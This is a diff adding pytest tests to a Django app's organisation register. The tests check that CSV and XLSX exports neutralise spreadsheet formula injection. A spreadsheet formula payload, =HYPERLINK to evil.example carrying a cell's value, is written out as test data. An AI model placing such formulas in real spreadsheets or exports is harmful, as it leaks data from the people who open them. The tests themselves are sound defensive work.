@@ -104,3 +104,26 @@ def test_staff_import_page_reports_bad_rows(client, coordinator, db):
     html = client.post("/staff/members/organisation/import/", {"file": upload}).content.decode()
     assert "Invånarantalet måste vara ett heltal: x" in html
     assert Organisation.objects.filter(name="Ale").exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Klicka")'
+
+
+def test_a_formula_typed_by_a_municipality_is_exported_as_text(register, ale):
+    Organisation.objects.filter(pk=ale.pk).update(invoice_reference=FORMULA)
+    organisations = Organisation.objects.all()
+    csv_text = register_io.export_csv(organisations)
+    assert "'" + FORMULA.replace('"', '""') in csv_text
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(BytesIO(register_io.export_xlsx(organisations))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+
+
+def test_a_guarded_formula_imports_back_unchanged(register, ale):
+    Organisation.objects.filter(pk=ale.pk).update(invoice_reference=FORMULA)
+    rows = dict(register_io.read_rows("r.csv", register_io.export_csv(Organisation.objects.all()).encode()))
+    assert any(row["invoice_reference"] == FORMULA for row in rows.values())
